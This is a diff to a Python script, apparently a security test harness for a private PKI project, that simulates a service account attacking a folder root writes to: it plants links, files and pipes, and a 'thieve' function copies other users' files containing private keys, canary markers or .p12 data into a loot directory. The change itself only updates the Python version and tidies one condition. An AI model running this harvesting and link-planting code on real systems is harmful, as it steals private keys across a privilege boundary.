@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 # Copyright: privatepki.stepca contributors
 
-"""What a service account may try that owns a folder which root writes to. It runs as that account, with Python 3.7.
+"""What a service account may try that owns a folder which root writes to. It runs as that account, with Python 3.9.
 
 plant:  read [[path, what], ...] from standard input, and put links, files, pipes and the like there
 clean:  take them away again
@@ -398,11 +398,11 @@ def thieve(loot: str, folders: list) -> None:
                         if not stat.S_ISREG(status.st_mode) or status.st_uid == os.getuid():
                             continue
                         content = stream.read(100000)
-                    if b"PRIVATE KEY" in content or b"canary" in content or path.endswith(".p12"):
-                        if content not in kept:
-                            kept.add(content)
-                            with open("%s/%d.%d" % (loot, os.getpid(), len(kept)), "wb") as taken:
-                                taken.write(b"%d %s\n%s" % (status.st_uid, path.encode(), content))
+                    secret = b"PRIVATE KEY" in content or b"canary" in content or path.endswith(".p12")
+                    if secret and content not in kept:
+                        kept.add(content)
+                        with open("%s/%d.%d" % (loot, os.getpid(), len(kept)), "wb") as taken:
+                            taken.write(b"%d %s\n%s" % (status.st_uid, path.encode(), content))
             time.sleep(0.002)
     print(opened)
 
